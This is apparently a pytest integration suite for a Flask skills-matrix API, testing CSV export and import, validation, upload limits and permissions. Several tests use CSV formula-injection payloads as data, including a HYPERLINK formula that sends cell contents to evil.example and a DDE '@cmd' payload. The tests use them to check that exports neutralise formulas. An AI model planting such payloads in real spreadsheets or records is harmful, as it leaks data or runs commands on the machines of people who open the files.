"""The skills matrix over HTTP: CSV export (formula safe) and all-or-nothing import."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from skills_service.extensions import db
from skills_service.services.common import NUL_MESSAGE
from skills_service.settings import Settings
from tests.conftest import Actor, MakeActor, MakeApp, changed
from tests.integration.responses import assert_problem, data

EXPORT = "/api/v1/export/matrix.csv"
IMPORT = "/api/v1/import"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'


def export_text(client: FlaskClient, actor: Actor, url: str = EXPORT) -> str:
    response = client.get(url, headers=actor.headers)
    try:
        assert response.status_code == 200
        return response.get_data(as_text=True)
    finally:
        response.close()


def export_rows(client: FlaskClient, actor: Actor) -> list[list[str]]:
    return list(csv.reader(io.StringIO(export_text(client, actor), newline="")))


def post_csv(client: FlaskClient, actor: Actor, text: str | bytes) -> TestResponse:
    data = text.encode() if isinstance(text, str) else text
    return client.post(IMPORT, data=data, content_type="text/csv", headers=actor.headers)


def create_skill(client: FlaskClient, admin: Actor, name: str) -> int:
    response = client.post(
        "/api/v1/skills", json={"name": name, "category": "Engineering"}, headers=admin.headers
    )
    assert response.status_code == 201
    skill_id: int = data(response)["id"]
    return skill_id


def create_person(client: FlaskClient, admin: Actor, email: str, name: str) -> int:
    response = client.post(
        "/api/v1/people", json={"email": email, "name": name}, headers=admin.headers
    )
    assert response.status_code == 201
    person_id: int = data(response)["id"]
    return person_id


def set_level(client: FlaskClient, admin: Actor, person_id: int, skill_id: int, level: int) -> None:
    url = f"/api/v1/people/{person_id}/skills/{skill_id}"
    response = client.put(url, json={"level": level}, headers={**admin.headers, "If-Match": "*"})
    if response.status_code == 412:  # nothing to match yet: create it
        response = client.put(url, json={"level": level}, headers=admin.headers)
    assert response.status_code in (200, 201)


def person_by_email(client: FlaskClient, admin: Actor, email: str) -> dict[str, Any]:
    found = data(client.get("/api/v1/people?limit=200", headers=admin.headers))
    matches = [item for item in found["items"] if item["email"] == email]
    assert len(matches) == 1, email
    person: dict[str, Any] = matches[0]
    return person


def levels_of(client: FlaskClient, admin: Actor, person_id: int) -> dict[int, int]:
    listed = data(client.get(f"/api/v1/people/{person_id}/skills", headers=admin.headers))
    return {item["skill_id"]: item["level"] for item in listed["items"]}


@pytest.fixture
def catalogue(client: FlaskClient, admin: Actor) -> dict[str, int]:
    return {name: create_skill(client, admin, name) for name in ("Python", "SQL", "Go")}


# Export


def test_export_is_csv_with_skill_columns_and_one_row_per_person(
    client: FlaskClient, admin: Actor, make_actor: MakeActor, catalogue: dict[str, int]
) -> None:
    member = make_actor("member", name="Mia Member")
    set_level(client, admin, member.person_id, catalogue["Python"], 4)
    set_level(client, admin, member.person_id, catalogue["Go"], 2)
    response = client.get(EXPORT, headers=admin.headers)
    try:
        assert response.status_code == 200
        assert response.mimetype == "text/csv"
        assert "attachment" in response.headers["Content-Disposition"]
        assert response.headers["Cache-Control"] == "no-store"
        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
    finally:
        response.close()
    assert rows[0] == ["email", "name", "role", "active", "Go", "Python", "SQL"]
    assert sorted(rows[1:]) == [
        [admin.email, "Admin 1", "admin", "true", "", "", ""],
        [member.email, "Mia Member", "member", "true", "2", "4", ""],
    ]


def test_export_returns_its_database_connection_when_the_stream_ends(
    app: Flask, client: FlaskClient, admin: Actor, catalogue: dict[str, int]
) -> None:
    response = client.get(EXPORT, headers=admin.headers)
    response.get_data()
    response.close()
    still_checked_out = db.engine(app).pool.checkedout()  # type: ignore[attr-defined]
    assert still_checked_out == 0


def test_export_leaves_out_deprecated_skills(
    client: FlaskClient, admin: Actor, catalogue: dict[str, int]
) -> None:
    client.patch(
        f"/api/v1/skills/{catalogue['Go']}",
        json={"deprecated": True},
        headers={**admin.headers, "If-Match": "*"},
    )
    assert export_rows(client, admin)[0] == ["email", "name", "role", "active", "Python", "SQL"]


@pytest.mark.parametrize("name", [HYPERLINK, "+SUM(1,2)", "-2+3", "@cmd|' /C calc'!A0"])
def test_a_person_name_that_looks_like_a_formula_is_exported_quoted(
    client: FlaskClient, admin: Actor, name: str
) -> None:
    create_person(client, admin, "formula@example.org", name)
    rows = export_rows(client, admin)
    row = next(row for row in rows if row[0] == "formula@example.org")
    assert row[1] == "'" + name


def test_an_email_that_looks_like_a_formula_is_exported_quoted(
    client: FlaskClient, admin: Actor
) -> None:
    create_person(client, admin, "=1+1@example.org", "Eve")
    emails = [row[0] for row in export_rows(client, admin)[1:]]
    assert "'=1+1@example.org" in emails


def test_a_skill_name_that_looks_like_a_formula_is_exported_quoted(
    client: FlaskClient, admin: Actor
) -> None:
    create_skill(client, admin, "@SUM(1)")
    create_skill(client, admin, "-Xmx")
    header = export_rows(client, admin)[0]
    assert header[4:] == ["'-Xmx", "'@SUM(1)"]


def test_no_exported_cell_starts_with_a_formula_character(
    client: FlaskClient, admin: Actor
) -> None:
    create_skill(client, admin, "=cmd")
    create_person(client, admin, "p@example.org", "+danger")
    for row in export_rows(client, admin):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_a_member_may_not_export(client: FlaskClient, member: Actor) -> None:
    response = client.get(EXPORT, headers=member.headers)
    assert_problem(response, 403)
    response.close()


def test_an_anonymous_caller_may_not_export(client: FlaskClient) -> None:
    response = client.get(EXPORT)
    assert_problem(response, 401)
    response.close()


# Import: the long layout


LONG_FILE = (
    "email,name,role,skill,level,interested,note,expires_on\r\n"
    "ada@example.org,Ada Lovelace,member,Python,5,yes,Wrote the first program,\r\n"
    "ada@example.org,Ada Lovelace,member,sql,3,,,2031-01-31\r\n"
    "grace@example.org,Grace Hopper,manager,,,,,\r\n"
)


def test_long_layout_import_creates_people_and_proficiencies(
    client: FlaskClient, admin: Actor, catalogue: dict[str, int]
) -> None:
    response = post_csv(client, admin, LONG_FILE)
    assert response.status_code == 200
    assert response.json == {
        "people_created": 2,
        "people_updated": 0,
        "people_unchanged": 0,
        "proficiencies_set": 2,
        "proficiencies_unchanged": 0,
        "verifications_cleared": 0,
        "cleared_verifications": [],
        "lines": 2,
    }
    ada = person_by_email(client, admin, "ada@example.org")
    assert (ada["name"], ada["role"]) == ("Ada Lovelace", "member")
    grace = person_by_email(client, admin, "grace@example.org")
    assert (grace["name"], grace["role"]) == ("Grace Hopper", "manager")
    assert levels_of(client, admin, ada["id"]) == {catalogue["Python"]: 5, catalogue["SQL"]: 3}
    assert levels_of(client, admin, grace["id"]) == {}


def test_long_layout_import_keeps_interest_note_and_expiry(
    client: FlaskClient, admin: Actor, catalogue: dict[str, int]
) -> None:
    post_csv(client, admin, LONG_FILE)
    ada = person_by_email(client, admin, "ada@example.org")
    items = data(client.get(f"/api/v1/people/{ada['id']}/skills", headers=admin.headers))["items"]
    by_skill = {item["skill_id"]: item for item in items}
    python, sql = by_skill[catalogue["Python"]], by_skill[catalogue["SQL"]]
    assert (python["interested"], python["note"], python["expires_on"]) == (
        True,
        "Wrote the first program",
        None,
    )
    assert (sql["interested"], sql["expires_on"]) == (False, "2031-01-31")


def test_import_updates_existing_people_and_levels(
    client: FlaskClient, admin: Actor, catalogue: dict[str, int]
) -> None:
    post_csv(client, admin, LONG_FILE)
    again = "email,name,role,skill,level\r\nada@example.org,Ada King,member,Python,2\r\n"
    response = post_csv(client, admin, again)
    assert data(response)["people_updated"] == 1
    ada = person_by_email(client, admin, "ada@example.org")
    assert ada["name"] == "Ada King"
    assert levels_of(client, admin, ada["id"])[catalogue["Python"]] == 2


def test_import_accepts_a_multipart_upload(
    client: FlaskClient, admin: Actor, catalogue: dict[str, int]
) -> None:
    response = client.post(
        IMPORT,
        data={"file": (io.BytesIO(LONG_FILE.encode()), "matrix.csv", "text/csv")},
        content_type="multipart/form-data",
        headers=admin.headers,
    )
    assert response.status_code == 200
    assert data(response)["people_created"] == 2


def test_import_accepts_a_utf8_byte_order_mark(
    client: FlaskClient, admin: Actor, catalogue: dict[str, int]
) -> None:
    response = post_csv(client, admin, "\ufeff" + LONG_FILE)
    assert response.status_code == 200
    person_by_email(client, admin, "ada@example.org")


BAD_FILE = (
    "email,name,role,skill,level\r\n"
    "good@example.org,Good Person,member,Python,3\r\n"
    "not-an-email,Bad Email,member,Python,3\r\n"
    "level@example.org,Bad Level,member,Python,9\r\n"
    "role@example.org,Bad Role,wizard,Python,2\r\n"
    "skill@example.org,Bad Skill,member,Cobol,2\r\n"
    "short@example.org,Too Short\r\n"
    "also-good@example.org,Also Good,member,SQL,1\r\n"
)


def test_a_file_with_bad_lines_is_422_listing_every_bad_line(
    client: FlaskClient, admin: Actor, catalogue: dict[str, int]
) -> None:
    problem = assert_problem(post_csv(client, admin, BAD_FILE), 422)
    found = [(error["line"], error["column"]) for error in problem["line_errors"]]
    assert found == [(3, "email"), (4, "level"), (5, "role"), (6, "skill"), (7, "")]
    assert all(error["message"] for error in problem["line_errors"])
    assert "nothing was imported" in problem["detail"]


def test_a_rejected_file_leaves_the_database_exactly_as_before(
    client: FlaskClient, admin: Actor, make_actor: MakeActor, catalogue: dict[str, int]
) -> None:
    existing = make_actor("member")
    set_level(client, admin, existing.person_id, catalogue["Go"], 2)
    before = export_text(client, admin)
    bad = BAD_FILE + f"{existing.email},Renamed,member,Go,5\r\n"
    assert_problem(post_csv(client, admin, bad), 422)
    assert export_text(client, admin) == before


def test_a_person_given_two_names_in_one_file_is_rejected(
    client: FlaskClient, admin: Actor, catalogue: dict[str, int]
) -> None:
    text = (
        "email,name,role,skill,level\r\n"
        "ada@example.org,Ada,member,Python,3\r\n"
        "ADA@example.org,Other Ada,member,SQL,3\r\n"
    )
    problem = assert_problem(post_csv(client, admin, text), 422)
    assert [error["line"] for error in problem["line_errors"]] == [3]


def test_a_header_of_an_unknown_layout_is_rejected_on_line_1(
    client: FlaskClient, admin: Actor
) -> None:
    problem = assert_problem(post_csv(client, admin, "who,what\r\na,b\r\n"), 422)
    assert [error["line"] for error in problem["line_errors"]] == [1]


def test_an_empty_file_is_rejected(client: FlaskClient, admin: Actor) -> None:
    problem = assert_problem(post_csv(client, admin, ""), 422)
    assert problem["line_errors"][0]["line"] == 1


# Import: the wide layout (the export's own)


@pytest.fixture
def populated(
    client: FlaskClient, admin: Actor, make_actor: MakeActor, catalogue: dict[str, int]
) -> dict[str, int]:
    formula_skill = create_skill(client, admin, "@SUM(1)")
    member = make_actor("member")
    tricky = create_person(client, admin, "=tricky@example.org", HYPERLINK)
    set_level(client, admin, member.person_id, catalogue["Python"], 3)
    set_level(client, admin, tricky, catalogue["Go"], 5)
    set_level(client, admin, tricky, formula_skill, 1)
    return {"member": member.person_id, "tricky": tricky, "formula_skill": formula_skill}


def test_reimporting_an_export_changes_nothing(
    client: FlaskClient, admin: Actor, populated: dict[str, int]
) -> None:
    before = export_text(client, admin)
    response = post_csv(client, admin, before)
    assert response.status_code == 200
    counts = data(response)
    assert (counts["people_created"], counts["people_updated"], counts["people_unchanged"]) == (
        0,
        0,
        3,
    )
    assert (counts["proficiencies_set"], counts["proficiencies_unchanged"]) == (0, 3)
    assert export_text(client, admin) == before


def test_reimporting_an_export_restores_names_and_levels(
    client: FlaskClient, admin: Actor, catalogue: dict[str, int], populated: dict[str, int]
) -> None:
    before = export_text(client, admin)
    client.patch(
        f"/api/v1/people/{populated['tricky']}",
        json={"name": "Renamed"},
        headers={**admin.headers, "If-Match": "*"},
    )
    set_level(client, admin, populated["tricky"], catalogue["Go"], 1)
    assert post_csv(client, admin, before).status_code == 200
    assert export_text(client, admin) == before
    person = data(client.get(f"/api/v1/people/{populated['tricky']}", headers=admin.headers))
    assert person["name"] == HYPERLINK


def test_a_wide_file_sets_the_active_flag(
    client: FlaskClient, admin: Actor, make_actor: MakeActor, catalogue: dict[str, int]
) -> None:
    leaver = make_actor("member", name="Leaving Soon")
    text = f"email,name,role,active,Python\r\n{leaver.email},Leaving Soon,member,false,2\r\n"
    assert post_csv(client, admin, text).status_code == 200
    person = data(client.get(f"/api/v1/people/{leaver.person_id}", headers=admin.headers))
    assert person["active"] is False
    assert levels_of(client, admin, leaver.person_id) == {catalogue["Python"]: 2}


def test_a_name_starting_with_a_quote_survives_the_round_trip(
    client: FlaskClient, admin: Actor
) -> None:
    person_id = create_person(client, admin, "quote@example.org", "'=not a formula")
    assert post_csv(client, admin, export_text(client, admin)).status_code == 200
    person = data(client.get(f"/api/v1/people/{person_id}", headers=admin.headers))
    assert person["name"] == "'=not a formula"


def test_a_wide_file_with_an_unknown_skill_column_is_rejected_on_line_1(
    client: FlaskClient, admin: Actor, catalogue: dict[str, int]
) -> None:
    text = "email,name,role,active,Python,Cobol\r\nx@example.org,X,member,true,3,2\r\n"
    problem = assert_problem(post_csv(client, admin, text), 422)
    assert [(error["line"], error["column"]) for error in problem["line_errors"]] == [(1, "cobol")]


def test_a_wide_file_with_a_bad_level_names_the_skill_column(
    client: FlaskClient, admin: Actor, catalogue: dict[str, int]
) -> None:
    text = "email,name,role,active,Python\r\nx@example.org,X,member,true,high\r\n"
    problem = assert_problem(post_csv(client, admin, text), 422)
    assert [(error["line"], error["column"]) for error in problem["line_errors"]] == [(2, "python")]


# Import: what is refused before parsing


def test_a_body_that_is_not_utf8_is_422(client: FlaskClient, admin: Actor) -> None:
    body = "email,name,role,skill,level\r\nzoë@example.org,Zoë,member,,\r\n".encode("latin-1")
    problem = assert_problem(post_csv(client, admin, body), 422)
    assert "file" in problem["errors"]


@pytest.mark.parametrize("content_type", ["application/json", "text/plain", "application/xml"])
def test_a_body_that_is_not_csv_is_415(
    client: FlaskClient, admin: Actor, content_type: str
) -> None:
    response = client.post(
        IMPORT, data=LONG_FILE.encode(), content_type=content_type, headers=admin.headers
    )
    assert_problem(response, 415)


def test_a_multipart_upload_without_a_file_is_422(client: FlaskClient, admin: Actor) -> None:
    response = client.post(
        IMPORT, data={"other": "x"}, content_type="multipart/form-data", headers=admin.headers
    )
    assert "file" in assert_problem(response, 422)["errors"]


def test_an_upload_over_the_limit_is_413(
    make_app: MakeApp, settings: Settings, admin: Actor, catalogue: dict[str, int]
) -> None:
    small = make_app(changed(settings, max_upload_bytes=1024))
    lines = [f"p{number}@example.org,Person {number},member,Python,3" for number in range(40)]
    text = "email,name,role,skill,level\r\n" + "\r\n".join(lines) + "\r\n"
    assert len(text) > 1024
    assert_problem(post_csv(small.test_client(), admin, text), 413)


def test_an_upload_within_the_limit_but_over_the_body_limit_is_accepted(
    make_app: MakeApp, settings: Settings, admin: Actor, catalogue: dict[str, int]
) -> None:
    roomy = make_app(changed(settings, max_body_bytes=1024, max_upload_bytes=65_536))
    lines = [f"p{number}@example.org,Person {number},member,Python,3" for number in range(40)]
    text = "email,name,role,skill,level\r\n" + "\r\n".join(lines) + "\r\n"
    assert len(text) > 1024
    response = post_csv(roomy.test_client(), admin, text)
    assert response.status_code == 200
    assert data(response)["people_created"] == 40


def test_a_member_may_not_import(
    client: FlaskClient, admin: Actor, member: Actor, catalogue: dict[str, int]
) -> None:
    before = export_text(client, admin)
    assert_problem(post_csv(client, member, LONG_FILE), 403)
    assert export_text(client, admin) == before


def test_a_read_only_admin_token_may_not_import(
    client: FlaskClient, make_actor: MakeActor, catalogue: dict[str, int]
) -> None:
    reader = make_actor("admin", scopes=("read",))
    assert_problem(post_csv(client, reader, LONG_FILE), 403)


def test_a_csv_holding_a_nul_character_is_rejected_naming_its_line(
    client: FlaskClient, admin: Actor
) -> None:
    upload = b"email,name\nok@example.org,Fine\nbad@example.org,Bad\x00Name\n"
    body = assert_problem(post_csv(client, admin, upload), 422)
    assert body["line_errors"] == [{"line": 3, "column": "", "message": NUL_MESSAGE}]
